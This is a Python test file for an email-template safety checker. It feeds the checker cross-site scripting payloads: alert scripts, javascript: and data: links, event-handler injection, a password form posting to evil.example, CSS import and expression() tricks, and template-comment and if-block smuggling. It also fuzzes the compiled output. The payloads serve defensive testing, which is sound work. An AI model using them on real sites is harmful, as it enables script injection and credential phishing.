from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from tests.fixtures.templates import CATALOGUE
from tidings.templates.checks.safety import dangers_in
from tidings.templates.compiling import Allowance, Scene, compile_html, html_of


@pytest.mark.parametrize("milestone", sorted(CATALOGUE.milestones))
def test_our_own_layouts_are_safe(milestone):
    mjml = CATALOGUE.layout("mjml", CATALOGUE.milestones[milestone].blocks)
    assert dangers_in(html_of(mjml, "mjml", right_to_left=False)) == []


@pytest.mark.parametrize(
    "html",
    [
        '<p style="color:{{ color }}">{{ note }}</p>',
        '<a href="{{ tracking_url }}">{{ label_track }}</a>',
        '<a href="mailto:{{ shop_email }}">{{ shop_email }}</a><a href="tel:{{ shop_phone_dialled }}">x</a>',
        '<a href="https://shop.example/help?x=1#top">help</a><a href="#products">x</a>',
        '<img src="{{ shop_logo }}" alt="{{ shop_name }}">',
        '<script type="application/ld+json">{{ markup }}</script>',
        "<!--[if mso]><noscript><xml><o:AllowPNG></o:AllowPNG></xml></noscript><![endif]-->",
        "<ul>{% for title, values in rows %}<li>{% for v in values %}{{ v }}{% endfor %}</li>{% endfor %}</ul>",
        '<b class="{% if banner %}loud{% else %}quiet{% endif %}" title="It\'s {{ name }}">x</b>',
        "<title>{% if banner %}{{ banner }}: {% endif %}{{ subject }}</title>",
        "<!--[if mso]><tr>{% if banner %}<td><![endif]--><p>x</p><!--[if mso]></td>{% endif %}</tr><![endif]-->",
        "<!DOCTYPE html><p>2 &lt; 3</p><br/><hr />",
    ],
)
def test_what_is_safe_is_let_pass(html):
    assert dangers_in(html) == []


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        '<script type="application/ld+json">{{ markup }}; alert(1)</script>',
        '<script type="application/ld+json">{{ note }}</script>',
        '<script type="text/javascript" src="https://evil.example/x.js"></script>',
        '<img src="https://x.example/x.png" onerror="alert(1)">',
        '<body onload="alert(1)">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" JaVaScRiPt:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a href="{{ note }}">x</a>',
        '<a href="https://evil.example/?to={{ name }}">x</a>',
        '<a href="{% if note %}javascript:alert(1){% endif %}">x</a>',
        "<a href={{ order_url }}>x</a>",
        '<a title="{% if note %}"{% endif %} onclick="alert(1)">x</a>',
        "<{{ note }}>",
        '<a {{ note }}="x">y</a>',
        "<iframe src='https://evil.example'></iframe>",
        "<form action='https://evil.example'><input name='password'></form>",
        "<object data='https://evil.example'></object>",
        "<svg><animate onbegin='alert(1)'></svg>",
        "<base href='https://evil.example'>",
        "<link rel='stylesheet' href='https://evil.example/x.css'>",
        "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>p { background: url(http://evil.example/x.png) }</style>",
        "<style>p { color: {{ note }} }</style>",
        "<style>{% if note %}</style><script>alert(1)</script><style>{% endif %}</style>",
        '<p style="width:expression(alert(1))">x</p>',
        '<p style="{{ note }}">x</p>',
        "<!-- {{ note }} -->",
        "{% if note %}<!-- {% endif %}<script>alert(1)</script>{% if note %} -->{% endif %}",
        "<!--[if mso]><script>alert(1)</script><![endif]-->",
        # A tag in braces is gone before anybody reads the rest.
        '<b title="{#">#}" onmouseover="alert(1)">x</b>',
        '<b title="{#- ">-#}" onmouseover="alert(1)">x</b>',
        '<a title="{#">#}" href="javascript:alert(1)">x</a>',
        '<b title="{#">#}" x={{ name }}>x</b>',
        '<b title="{% if banner %}">{% endif %}" onclick="alert(1)">x</b>',
        '<b title="{%- if banner -%}">{%- endif -%}" onclick="alert(1)">x</b>',
        '<b title="{% for a in rows %}">{% endfor %}" onclick="alert(1)">x</b>',
        '<b title="{% if banner %}"{% else %}" onclick="alert(1){% endif %}">x</b>',
        '<b title="{% raw %}">{% endraw %}" onclick="alert(1)">x</b>',
        "{# what nobody sees #}<p>x</p>",
        "<{# #}script>alert(1)</{# #}script>",
        "<{% if banner %}{% endif %}script>alert(1)</script>",
        "<{%- if banner %}x{% endif -%}\n script>alert(1)</script>",
        "<{% if banner %}b{% else %}script{% endif %}>alert(1)</b>",
        "{% if banner %}<title>{% endif %}<script>alert(1)</script></title>",
        "<title>{% if banner %}</title><p>{% endif %}</title>",
        "<style>@im{% if banner %}x{% endif %}port 'https://evil.example/x.css';</style>",
        '<p style="width:expre{% if banner %}x{% endif %}ssion(alert(1))">x</p>',
        "<!--{% if banner %}[if mso]{% endif %}><noscript><xml></xml></noscript>-->",
        "<!--[if mso]>-{% if banner %}x{% endif %}-><noscript></noscript><![endif]-->",
        "<!--[if mso]>--{{ shop_logo }}><noscript></noscript><![endif]-->",
        "<!--[if mso]>{% if banner %}<![endif]-->{% endif %}<p>x</p>",
        # Without quotes, a value has no end but a blank; and in quotes, a bracket ends nothing.
        "<b x=a{{ name }}>x</b>",
        '<b title=">" x={{ name }}>x</b>',
        "<b x=1>x</b>",
        '<b title="x"onclick="alert(1)">x</b>',
        '<b title="x"/onclick="alert(1)">x</b>',
        # What is let stand in addresses, styles and scripts, and what only goes by its name.
        '{% for order_url in shipping_lines %}<a href="{{ order_url }}">x</a>{% endfor %}',
        '{% for title, color in sums %}<p style="color:{{ color }}">x</p>{% endfor %}',
        '{% for (title, (markup, x)) in sums %}<script type="application/ld+json">{{ markup }}</script>{% endfor %}',
        '<b title="{{ markup }}">x</b>',
        '<script type="text/javascript" type="application/ld+json">{{ markup }}</script>',
        '<meta http-equiv="{{ number }}" content="0;url=https://evil.example">',
        # What mailboxes mend, each in its own way.
        "<!--><script>alert(1)</script>-->",
        "<!-- x --!><script>alert(1)</script>-->",
        "<![CDATA[<b>]]>",
        "<?xml <b>?>",
        "</ b onclick='alert(1)'>",
        "<b",
        "<!-- x",
        "<style>p { color: red }",
        "{% if banner %}",
    ],
)
def test_what_runs_reaches_out_or_could_turn_into_that_is_found(html):
    assert dangers_in(html)


# What layouts are made of, and what a wrongdoer would make them of.
FRAGMENTS = (
    "<p>", "</p>", "<b", "<b ", ">", "<", "/>", '"', "'", "=", " ", "-", "x", "title=", 'title="', ' class="',
    ' onclick="alert(1)"', " onclick=alert(1)", '<a href="', "javascript:alert(1)", "https://shop.example/", "</a>",
    "<script>", "</script>", "<style>", "</style>", "<title>", "</title>", "<!--", "-->", "--", "[if mso]>",
    "<![endif]-->", ' title="x"', "<noscript>", "{{ name }}", "{{ order_url }}", "{{ markup }}",
    ' style="color:{{ color }}"', '"{{ name }}"', "{#", "#}",
    "{% if banner %}", "{%- if banner -%}", "{% else %}", "{% endif %}", "{% for line in lines %}",
    "{% endfor %}", "{% for order_url in lines %}", "{{ line }}", "{% raw %}", "{% endraw %}", "\n",
)  # fmt: skip
# Pieces that are sound as they are: without them, nearly nothing would pass.
WHOLE = (
    "<p>x</p>", '<b title="{{ name }}">{{ name }}</b>', '<a href="{{ order_url }}">x</a>', "<title>{{ name }}</title>",
    '<p class="{% if banner %}loud{% else %}quiet{% endif %}">x</p>', "{% if banner %}<p>{{ banner }}</p>{% endif %}",
    "{% for line in lines %}{{ line }}<br />{% endfor %}", "<!--[if mso]><td><![endif]-->",
    "{% if banner %}", "{% endif %}",
    '<script type="application/ld+json">{{ markup }}</script>', "{% else %}", "{% for line in lines %}", "{% endfor %}",
    "<!--[if mso]><td>{% if banner %}<td><![endif]-->", "<!--[if mso]></td>{% endif %}</td><![endif]-->",
)  # fmt: skip
# Pieces that would be alive with what they seem to need, or without it.
HALVES = (
    '<b title="{% if banner %}">', '{% endif %}" onclick="alert(1)">x</b>', '<b title="{#">#}',
    '" onclick="alert(1)">x</b>', "<title>{% if banner %}", "</title>{% endif %}", '<b title="', '">x</b>',
    '{% for order_url in lines %}<a href="{{ order_url }}">x</a>{% endfor %}', "<b x=a{{ name }}>x</b>",
    '<b title="{{ markup }}">x</b>',
)  # fmt: skip
EVIL = "x\" onclick=alert(1) '><script>alert(1)</script>--> javascript:alert(1)"
ORDERS = tuple(
    {
        "name": name,
        "banner": banner,
        "lines": lines,
        "order_url": order_url,
        "line": EVIL,
        "color": "#123456",
        "markup": Markup('{"name":"x onclick=alert(1) \\"\\u003e"}'),
    }
    for name in ("", EVIL, "onclick=alert(1)")
    for banner in ("", EVIL)
    for lines in ([], [EVIL], ["javascript:alert(1)", "script"])
    for order_url in ("", "https://shop.example/o/x--")
)


class Mailbox(HTMLParser):
    """Sees what is sent, and says what of it is alive; Outlook's reads its comments, too."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.alive: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in {"p", "b", "a", "title", "br", "style", "td"} and (tag, attrs) != (
            "script",
            [("type", "application/ld+json")],
        ):
            self.alive.append(tag)
        for name, value in attrs:
            if name not in {"title", "class", "href", "type", "style"} or "javascript:" in (value or "")[:20]:
                self.alive.append(f"{tag} {name} {value}")

    def handle_comment(self, data):
        inside = Mailbox()
        inside.feed(data.removeprefix("[if mso]>").removesuffix("<![endif]"))
        inside.close()
        self.alive += inside.alive


def alive_in(html):
    mailbox = Mailbox()
    mailbox.feed(html)
    mailbox.close()
    return mailbox.alive


@settings(max_examples=600, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(WHOLE), st.sampled_from(HALVES), st.sampled_from(FRAGMENTS)), max_size=8))
def test_what_passes_is_harmless_whatever_an_order_leaves_out_repeats_or_says(fragments):
    layout = "".join(fragments)
    if dangers_in(layout):
        return
    sent = compile_html(layout, "here", Allowance(10**6, 60))
    for order in ORDERS:
        assert alive_in(sent(Scene(order))) == [], layout


def test_a_mailbox_notices_what_is_alive():
    assert alive_in('<b title="" onclick="alert(1)">x</b>') == ["b onclick alert(1)"]
    assert alive_in('<!--[if mso]><a href="javascript:x">y</a><![endif]-->') == ["a href javascript:x"]
    assert alive_in("<noscript></noscript>") == ["noscript"]
